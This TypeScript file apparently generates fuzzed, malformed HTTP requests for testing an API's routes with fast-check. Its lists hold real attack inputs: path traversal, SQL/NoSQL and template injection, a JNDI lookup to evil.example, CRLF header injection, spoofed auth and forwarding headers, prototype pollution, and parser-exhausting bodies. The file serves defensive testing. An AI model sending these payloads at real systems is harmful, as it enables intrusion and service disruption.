import fc from 'fast-check';
import { functionTable } from '../../functions/functionTable.js';
import { credentialOf, sampleOf, type SampleRequest } from './operations.js';

/** A request with something wrong in it; `what` names the changes, for the text of a failure. */
export interface MutatedRequest extends SampleRequest {
  readonly what: readonly string[];
}

/** How one request differs from a sound one. */
type Change = (request: MutatedRequest) => MutatedRequest;

const LONG = 'x'.repeat(5_000);
const HOSTILE_TEXTS = [
  ...['', ' ', '.', '..', '../../x', '..\\..\\x', '%2e%2e', '/etc/passwd', '\\\\host\\share', 'CON', 'a\u0000b'],
  ...[
    "' or 1 eq 1",
    "x' or RowKey ne '",
    "');--",
    '{"$gt":""}',
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '<script>',
  ],
  ...['\u202eexe', '\u200b', '\ud800', '\ufffe', '😀'.repeat(50), 'é', '\r\nx-injected: 1', LONG, 'null', '__proto__'],
  ...['/v1/gdd/a/../b', '/v1/gdd//a', '/v1/gdd/a?x=1', '/v1/gdd/a#b', '/V1/gdd/a', 'v1/gdd/a', '/v1/gdd/', 'http://e/'],
  ...['2026-02-30', '0000-00-00', '9999-12-31', '2026-01-01T00:00:00Z', '-1', '1e9', 'NaN', 'Infinity', 'undefined'],
] as const;
const HOSTILE_VALUES: readonly unknown[] = [
  ...[null, true, false, 0, -0, -1, 1e308, -1e308, 2 ** 53, 0.1, [], {}, [[]], [null], { a: {} }, '0', [{}, {}]],
  ...HOSTILE_TEXTS,
];

const hostileText = fc.constantFrom(...HOSTILE_TEXTS);
const number = fc.nat({ max: 1_000_000 });

/** Every place in a JSON value, as a path of keys. */
function placesIn(value: unknown, path: readonly string[] = []): (readonly string[])[] {
  const inner = typeof value === 'object' && value !== null ? Object.entries(value) : [];
  return [path, ...inner.flatMap(([key, child]) => placesIn(child, [...path, key]))];
}

/** The value with another at that place; `undefined` takes the place away. */
function replaced(value: unknown, [key, ...rest]: readonly string[], by: unknown): unknown {
  if (key === undefined) return by;
  if (Array.isArray(value))
    return value.map((item: unknown, at) => (String(at) === key ? replaced(item, rest, by) : item));
  const entries = Object.entries(value as object) as [string, unknown][];
  return Object.fromEntries(entries.map(([name, item]) => [name, name === key ? replaced(item, rest, by) : item]));
}

const isJson = ({ headers, body }: SampleRequest): boolean =>
  typeof body === 'string' && body !== '' && /^application\/.*json$/.test(headers['content-type'] ?? '');

/** A value of the body, or of a form's part, changes or goes. */
const changedValue: fc.Arbitrary<Change> = fc
  .tuple(number, fc.option(fc.constantFrom(...HOSTILE_VALUES), { nil: undefined }))
  .map(([at, by]) => (request) => {
    if (!isJson(request)) return changedBytes(request, at, [at % 256]);
    const value: unknown = JSON.parse(String(request.body));
    const places = placesIn(value);
    const place = places[at % places.length]!;
    const body = JSON.stringify(replaced(value, place, by)) as string | undefined;
    return { ...request, body: body ?? '', what: [...request.what, `${place.join('.')} = ${JSON.stringify(by)}`] };
  });

function changedBytes(request: MutatedRequest, at: number, bytes: readonly number[]): MutatedRequest {
  const body = Buffer.from(request.body ?? '');
  const place = body.length === 0 ? 0 : at % body.length;
  const changed = Buffer.concat([body.subarray(0, place), Buffer.from(bytes), body.subarray(place + bytes.length)]);
  return { ...request, body: new Uint8Array(changed), what: [...request.what, `bytes ${bytes.join(' ')} at ${place}`] };
}

const brokenBytes: fc.Arbitrary<Change> = fc
  .tuple(number, fc.array(fc.nat({ max: 255 }), { minLength: 1, maxLength: 8 }))
  .map(
    ([at, bytes]) =>
      (request) =>
        changedBytes(request, at, bytes),
  );

const nested = (name: string, levels: number): string => `{"${name}":${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}}`;

const WHOLE_BODIES: readonly (readonly [string, (body: Buffer) => Buffer])[] = [
  ['nothing', () => Buffer.alloc(0)],
  ['half of it', (body) => body.subarray(0, body.length / 2)],
  ['twice', (body) => Buffer.concat([body, body])],
  ['with a mark', (body) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), body])],
  ['as UTF-16', (body) => Buffer.from(body.toString('latin1'), 'utf16le')],
  ['30,000 levels', () => Buffer.from('['.repeat(30_000) + ']'.repeat(30_000))],
  ['30,000 levels of objects', () => Buffer.from('{"a":'.repeat(12_000))],
  ...['geometry', 'properties'].map(
    (name) => [`9,000 levels below ${name}`, () => Buffer.from(nested(name, 9_000))] as const,
  ),
  ['70 KB of spaces', (body) => Buffer.concat([body, Buffer.alloc(70_000, 32)])],
  ['an infinite number', (body) => Buffer.from(body.toString('latin1').replace(/"[^"]*"(?=[,}])/, '1e400'))],
  ['a number of 60,000 digits', () => Buffer.from('9'.repeat(60_000))],
  ['the same key 5,000 times', () => Buffer.from(`{${'"requestPath":1,'.repeat(3_000)}"requestPath":1}`)],
  ['a prototype', (body) => Buffer.from(body.toString('latin1').replace('{', '{"__proto__":{"a":1},'))],
  ['a value that is no object', () => Buffer.from('"x"')],
  ['null', () => Buffer.from('null')],
];
const wholeBody: fc.Arbitrary<Change> = fc.constantFrom(...WHOLE_BODIES).map(([name, change]) => (request) => ({
  ...request,
  body: new Uint8Array(change(Buffer.from(request.body ?? ''))),
  what: [...request.what, `body: ${name}`],
}));

const HEADERS: readonly Readonly<Record<string, string>>[] = [
  ...['text/plain', 'application/json; charset=utf-16', 'application/json;', 'multipart/form-data', 'x', ''].map(
    (type) => ({ 'content-type': type }),
  ),
  { 'content-type': 'multipart/form-data; boundary=' },
  { 'content-type': `multipart/form-data; boundary=${'b'.repeat(71)}` },
  { 'content-type': 'application/json', 'content-encoding': 'gzip' },
  { accept: 'image/png' },
  { accept: '*/*;q=0, text/csv;q=abc' },
  { accept: ','.repeat(2_000) },
  { traceparent: '00-00000000000000000000000000000000-0000000000000000-00' },
  { traceparent: 'ff-x' },
  { traceparent: LONG },
  { tracestate: '=,=,;' },
  { range: 'bytes=0-0' },
  { 'if-none-match': '*' },
  { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'gopher' },
  { 'x-ms-client-principal': 'e30=', 'x-ms-client-principal-id': 'admin' },
  { 'x-original-url': '/health', 'x-rewrite-url': '/health' },
  { cookie: 'a=b; '.repeat(500) },
  { 'x-functions-key': 'x' },
  { expect: '100-continue' },
  { 'accept-encoding': 'br, identity;q=0' },
  { 'accept-encoding': 'gzip;q=abc, *;q=0' },
  { 'accept-encoding': `gzip;${'q=1;'.repeat(1_000)}` },
  { 'if-none-match': `W/"${'"'.repeat(3_000)}` },
  { 'idempotency-key': LONG },
  { 'idempotency-key': 'one of many, that come with another body' },
  { 'idempotency-key': 'one-of-many-that-come-with-another-body' },
  { 'x-ms-client-request-id': LONG },
  { 'x-ms-client-request-id': '%0d%0ax-injected: 1' },
];
const headers: fc.Arbitrary<Change> = fc.constantFrom(...HEADERS).map((more) => (request) => ({
  ...request,
  headers: { ...request.headers, ...more },
  what: [...request.what, `headers ${JSON.stringify(more).slice(0, 80)}`],
}));

const badCredential: fc.Arbitrary<Change> = fc
  .constantFrom('Bearer', 'Bearer x.y.z', 'bearer  a.b.c', 'Basic YTpi', LONG, 'pfs_000000000000_', 'null')
  .map((text) => (request) => ({
    ...request,
    headers: { ...request.headers, authorization: text, 'api-key': text },
    what: [...request.what, `credential ${text.slice(0, 20)}`],
  }));

const QUERY_NAMES = ['limit', 'cursor', 'status', 'Limit', 'headers', 'Headers', 'code', 'api-version', '__proto__'];
const query: fc.Arbitrary<Change> = fc
  .tuple(fc.constantFrom(...QUERY_NAMES, 'path', 'insightId', 'enrollment_id', 'file', 'body'), hostileText)
  .map(([name, value]) => (request) => {
    const added = `${request.path.includes('?') ? '&' : '?'}${name}=${percentEncoded(value)}`;
    return { ...request, path: request.path + added, what: [...request.what, `query ${added.slice(0, 60)}`] };
  });

/** The last segment of a path, where parameters stand. */
const segment: fc.Arbitrary<Change> = hostileText.map((text) => (request) => {
  if (!request.route.path.includes('{')) return request;
  const path = request.path.replace(/[^/]+$/, percentEncoded(text));
  return { ...request, path, what: [...request.what, `path ${path.slice(0, 60)}`] };
});

/** As URLs write it; a broken surrogate becomes bytes that are no UTF-8. */
function percentEncoded(text: string): string {
  return /\p{Surrogate}/u.test(text) ? '%ed%a0%80' : encodeURIComponent(text);
}

const change = fc.oneof(
  { weight: 5, arbitrary: changedValue },
  { weight: 2, arbitrary: brokenBytes },
  { weight: 2, arbitrary: wholeBody },
  { weight: 3, arbitrary: headers },
  { weight: 1, arbitrary: badCredential },
  { weight: 3, arbitrary: query },
  { weight: 3, arbitrary: segment },
);

/** One to three changes of a sound request of any operation, with the right credential. */
export const mutatedRequest: fc.Arbitrary<MutatedRequest> = fc
  .tuple(fc.constantFrom(...functionTable.routes), fc.array(change, { minLength: 1, maxLength: 3 }))
  .map(([route, changes]) => {
    const sound = sampleOf(route);
    const request = { ...sound, headers: { ...sound.headers, ...credentialOf(route) }, what: [] };
    return changes.reduce<MutatedRequest>((changed, apply) => apply(changed), request);
  });
